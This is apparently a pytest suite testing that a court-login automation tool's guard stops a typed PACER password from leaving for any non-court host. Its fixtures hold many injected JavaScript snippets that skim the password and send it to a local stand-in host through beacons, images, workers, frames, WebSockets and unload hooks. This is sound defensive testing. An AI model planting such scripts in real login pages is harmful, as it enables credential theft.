"""From when a secret is typed, the page sends nothing to another host than the court's."""

import http.server
import threading
from base64 import b64encode
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from hashlib import sha1
from typing import Any

import pytest

from config.account import Account
from ecfcheck.browser.secret_guard import build_pattern
from ecfcheck.browser.window import Window
from pages.errors import MissingControlError


@dataclass
class OtherHost:
    """A host that is not the court's, and what it was sent."""

    address: str
    requests: list[str] = field(default_factory=list)


@pytest.fixture
def other_host() -> Iterator[OtherHost]:
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            if key := self.headers.get("Sec-WebSocket-Key"):
                self.accept_socket(key)
                return
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            host.requests.append(f"{self.path} {body.decode()}")
            content = b"<script>for (;;) ;</script>" if self.path == "/busy" else b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        do_POST = do_GET  # noqa: N815 - http.server looks for this name

        def accept_socket(self, key: str) -> None:
            """Keep a WebSocket open until the browser closes it."""
            host.requests.append(self.path)
            digest = sha1(f"{key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11".encode(), usedforsecurity=False)
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.send_header("Sec-WebSocket-Accept", b64encode(digest.digest()).decode())
            self.end_headers()
            self.close_connection = True
            while self.rfile.read(1):
                pass

        def log_message(self, *_: Any) -> None:
            """Print nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        host = OtherHost(f"http://other.localhost:{server.server_port}")
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield host
        server.shutdown()
        thread.join()


@pytest.fixture
def window(login_window: Window) -> Window:
    return login_window


def fill_in(window: Window, account: Account) -> None:
    typed = {"user_name": account.pacer.user_name, "password": account.pacer.password}
    assert window.act("pacer_login", "fill_in", typed)


def listen(window: Window, script: str) -> None:
    """Have the page run a script when the password is typed."""
    window.page.evaluate(
        "script => document.querySelector('[type=password]')"
        ".addEventListener('input', event => new Function('secret', script)(event.target.value))",
        script,
    )


CARRYING = {
    "an image": "new Image().src = there + '/?p=' + encodeURIComponent(secret)",
    "a beacon": "navigator.sendBeacon(there, secret)",
    "a request that outlives the page": "fetch(there, {method: 'POST', body: secret, keepalive: true})",
    "an encoded image": "new Image().src = there + '/?p=' + btoa('key=' + secret + ';')",
    "a form in a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe name=away></iframe>');"
    "const form = document.getElementById('loginForm');"
    "form.action = there; form.target = 'away'; HTMLFormElement.prototype.submit.call(form)",
    "the form": "const form = document.getElementById('loginForm');"
    "form.action = there; HTMLFormElement.prototype.submit.call(form)",
    "a worker": "new Worker(URL.createObjectURL(new Blob(["
    "`fetch(${JSON.stringify(there + '/?p=' + encodeURIComponent(secret))}, {mode: 'no-cors'})`])))",
}


@pytest.mark.parametrize("script", CARRYING.values(), ids=CARRYING.keys())
def test_what_was_typed_does_not_get_to_another_host(
    script: str, window: Window, account: Account, other_host: OtherHost
) -> None:
    listen(window, f"const there = '{other_host.address}'; {script}")
    with window.page.context.expect_event("requestfailed"):
        fill_in(window, account)
    assert window.secret_guard.escapes == [f"what was typed to {other_host.address}"]
    assert other_host.requests == []


@pytest.mark.parametrize("script", ["location = there", "window.open(there)"])
def test_a_page_with_a_typed_secret_does_not_lead_to_another_host(
    script: str, window: Window, account: Account, other_host: OtherHost
) -> None:
    listen(window, f"const there = '{other_host.address}/'; {script}")
    with window.page.context.expect_event("requestfailed"):
        fill_in(window, account)
    assert window.secret_guard.escapes == [f"the user to {other_host.address}"]
    assert other_host.requests == []


SEND_LAST = "addEventListener('pagehide', () => navigator.sendBeacon(there, secret))"
ADD_FRAME = "const frame = document.createElement('iframe'); document.body.append(frame);"
WORKER = """URL.createObjectURL(new Blob([`onmessage = event => fetch(event.data[0], {
    method: 'POST', mode: 'no-cors', keepalive: true, body: event.data[1],
})`]))"""
WORK_LAST = """addEventListener('pagehide', () => {
    worker.postMessage([there, secret]);
    for (const end = Date.now() + 300; Date.now() < end;);
});"""
LAST_WAYS = {
    "a beacon": SEND_LAST,
    "a beacon of a hidden page": "document.addEventListener('visibilitychange',"
    " () => navigator.sendBeacon(there, secret))",
    "an image": "addEventListener('pagehide', () => { new Image().src = there + '/?' + encodeURI(secret) })",
    "a request that outlives the page": "addEventListener('unload', () =>"
    " fetch(there, {method: 'POST', mode: 'no-cors', body: secret, keepalive: true}))",
    "a beacon of a frame": ADD_FRAME
    + SEND_LAST.replace("navigator.sendBeacon", "frame.contentWindow.navigator.sendBeacon"),
    "a beacon of a picture in a frame": f"""{ADD_FRAME} globalThis.there = there; globalThis.secret = secret;
        const script = `const {{there, secret}} = parent; {SEND_LAST}`;
        const picture = `<svg xmlns='http://www.w3.org/2000/svg'><script>${{script}}</${{'script'}}></svg>`;
        frame.src = URL.createObjectURL(new Blob([picture], {{type: 'image/svg+xml'}}));""",
    "a beacon, with a form that is called head": "document.forms[0].setAttribute('name', 'head');"
    + SEND_LAST,
    "a beacon of a document that is written anew": "document.open(); document.write('<p>Please wait</p>');"
    + SEND_LAST,
    "a beacon of a document without elements": f"document.documentElement.remove(); {SEND_LAST}",
    "a beacon after a method is replaced": f"Document.prototype.createElementNS = null; {SEND_LAST}",
    "a beacon of a frame that is not counted": "globalThis.length = 0;"
    + ADD_FRAME
    + SEND_LAST.replace("navigator.sendBeacon", "frame.contentWindow.navigator.sendBeacon"),
    "a worker": f"const worker = new Worker({WORKER}); {WORK_LAST}",
    "a worker of a frame": f"""{ADD_FRAME}
        const worker = new frame.contentWindow.Worker({WORKER}); {WORK_LAST}""",
    "a worker by another name": f"const worker = new Worker.prototype.constructor({WORKER}); {WORK_LAST}",
}


@pytest.mark.parametrize("script", LAST_WAYS.values(), ids=LAST_WAYS.keys())
def test_what_was_typed_does_not_get_to_another_host_when_the_page_is_left(
    script: str, window: Window, account: Account, other_host: OtherHost
) -> None:
    listen(window, f"const there = '{other_host.address}'; {script}")
    with suppress(MissingControlError):  # what is written anew has no fields
        fill_in(window, account)
    window.load(window.court.website, 10)
    # What the page sent before it was left would have come before this.
    window.page.evaluate("there => fetch(`${there}/last`, {mode: 'no-cors'})", other_host.address)
    assert other_host.requests == ["/last "]


OPENERS = {
    "a tab that is led on": "open('/csologin/login.jsf')",
    "a blank tab that is led on": "open('')",
}


@pytest.mark.parametrize("opener", OPENERS.values(), ids=OPENERS.keys())
def test_another_tab_of_the_court_does_not_end_the_guard(
    opener: str, window: Window, account: Account, other_host: OtherHost
) -> None:
    lead_on = f"""const tab = {opener};
    let isLedOn = false;
    const timer = setInterval(() => {{
        if (tab.document.readyState !== 'complete') return;
        if (!isLedOn) {{ isLedOn = true; tab.location = '/csologin/login.jsf?again'; }}
        if (tab.location.search !== '?again') return;
        clearInterval(timer);
        fetch('{other_host.address}', {{method: 'POST', mode: 'no-cors', body: secret}});
    }}, 50);"""
    listen(window, lead_on)
    with window.page.context.expect_event("requestfailed"):
        fill_in(window, account)
    assert window.secret_guard.escapes == [f"what was typed to {other_host.address}"]
    assert other_host.requests == []


def test_a_socket_to_another_host_that_is_open_is_closed_before_anything_is_typed(
    window: Window, account: Account, other_host: OtherHost
) -> None:
    address = other_host.address.replace("http", "ws")
    window.page.evaluate(
        """address => new Promise(done => {
            globalThis.socket = new WebSocket(address);
            socket.onopen = () => done();
        })""",
        address,
    )
    listen(window, "globalThis.stateWhenTyped = socket.readyState")
    fill_in(window, account)
    assert window.page.evaluate("stateWhenTyped === WebSocket.CLOSING")


def test_a_frame_that_was_there_before_opens_no_socket_to_another_host(
    window: Window, account: Account, other_host: OtherHost
) -> None:
    window.page.evaluate(f"() => {{ {ADD_FRAME} }}")
    address = other_host.address.replace("http", "ws")
    listen(window, f"new frames[frames.length - 1].WebSocket('{address}/?' + encodeURIComponent(secret))")
    fill_in(window, account)
    window.load(window.court.website, 10)
    # What the page sent before it was left would have come before this.
    window.page.evaluate("there => fetch(`${there}/last`, {mode: 'no-cors'})", other_host.address)
    assert other_host.requests == ["/last "]


UNSEEN = {
    "a WebSocket": "new WebSocket(there.replace('http', 'ws') + '/?' + encodeURIComponent(secret))",
    "a shared worker": "new SharedWorker(URL.createObjectURL(new Blob("
    "[`fetch(${JSON.stringify(there)}, {mode: 'no-cors'})`])))",
    "a request for later": "fetchLater(there, {method: 'POST', body: secret, activateAfter: 0})",
}


@pytest.mark.parametrize("script", UNSEEN.values(), ids=UNSEEN.keys())
def test_ways_that_no_route_sees_do_not_lead_to_another_host(
    script: str, window: Window, account: Account, other_host: OtherHost
) -> None:
    listen(window, f"const there = '{other_host.address}'; try {{ {script} }} finally {{ fetch(there) }}")
    with window.page.context.expect_event("requestfailed"):
        fill_in(window, account)
    window.load(window.court.website, 10)
    assert other_host.requests == []


def test_a_request_that_carries_nothing_is_blocked_and_noted_once(
    window: Window, account: Account, other_host: OtherHost
) -> None:
    listen(window, f"for (const n of [1, 2]) new Image().src = `{other_host.address}/statistics?${{n}}`")
    with window.page.context.expect_event("requestfailed"):
        fill_in(window, account)
    window.load(window.url, 10)
    assert window.secret_guard.escapes == []
    assert window.notes == [f"blocked a request to {other_host.address}, since a secret was typed"]
    assert other_host.requests == []


def test_a_document_that_stays_while_another_is_awaited_does_not_end_the_guard(
    window: Window, account: Account, other_host: OtherHost
) -> None:
    window.page.route("**/slow", lambda _: None)
    send = f"fetch('{other_host.address}', {{method: 'POST', body: secret}})"
    listen(
        window, f"location = '/slow'; setTimeout(() => {{ history.pushState({{}}, '', '#'); {send} }}, 100)"
    )
    with window.page.context.expect_event("requestfailed"):
        fill_in(window, account)
    assert window.secret_guard.escapes == [f"what was typed to {other_host.address}"]
    assert other_host.requests == []


def test_the_next_document_of_the_court_may_send_what_it_likes(
    window: Window, account: Account, other_host: OtherHost
) -> None:
    fill_in(window, account)
    window.load(window.court.website, 10)
    with window.page.expect_event("requestfinished", lambda request: "statistics" in request.url):
        window.page.evaluate("there => { new Image().src = there + '/statistics'; }", other_host.address)
    assert other_host.requests == ["/statistics "]
    assert window.notes == []


def test_the_court_receives_what_is_typed(window: Window, account: Account) -> None:
    typed = {"user_name": account.pacer.user_name, "password": account.pacer.password}
    assert window.act("pacer_login", "log_in", typed)
    assert window.wait_for_screen("cmecf_home", 10, previous_screen="pacer_login").is_expected
    assert window.secret_guard.escapes == []


@pytest.mark.parametrize(
    ("address", "is_other"),
    [
        ("https://ecf.court/login", False),
        ("https://ecf.court:8443?x", False),
        ("http://ecf.court", False),
        ("https://ecf.court.other/", True),
        ("https://ecf.court@other/", True),
        ("https://ecf.court:80@other/", True),
        ("https://ecfxcourt/", True),
        ("https://other/?https://ecf.court/", True),
        ("data:text/plain,x", False),
    ],
)
def test_only_the_courts_own_hosts_count_as_the_courts(address: str, is_other: bool) -> None:
    assert bool(build_pattern(["ecf.court", "pacer.court"]).match(address)) is is_other


def test_a_wait_ends_though_a_script_of_the_document_after_a_secret_does_not(
    window: Window, account: Account, other_host: OtherHost
) -> None:
    fill_in(window, account)
    port = other_host.address.rpartition(":")[2]
    window.page.goto(f"http://pacer.localhost:{port}/busy", wait_until="commit")
    assert not window.wait_for_screen("cmecf_home", 1).is_expected


POST = (
    "text => fetch('/csologin/login.jsf', {method: 'POST', body: text}).then(() => 'sent', () => 'blocked')"
)


def test_a_secret_goes_to_the_court_once_when_it_is_sent(window: Window, account: Account) -> None:
    password = account.pacer.password.get_secret_value()
    fill_in(window, account)
    assert window.page.evaluate(POST, password) == "blocked"
    window.secret_guard.gate.open()
    assert [window.page.evaluate(POST, password) for _ in range(2)] == ["sent", "blocked"]
    assert window.page.evaluate(POST, "keep-alive") == "sent"
    assert window.secret_guard.gate.unasked == [window.court.pacer_login] * 2
    assert window.secret_guard.escapes == []
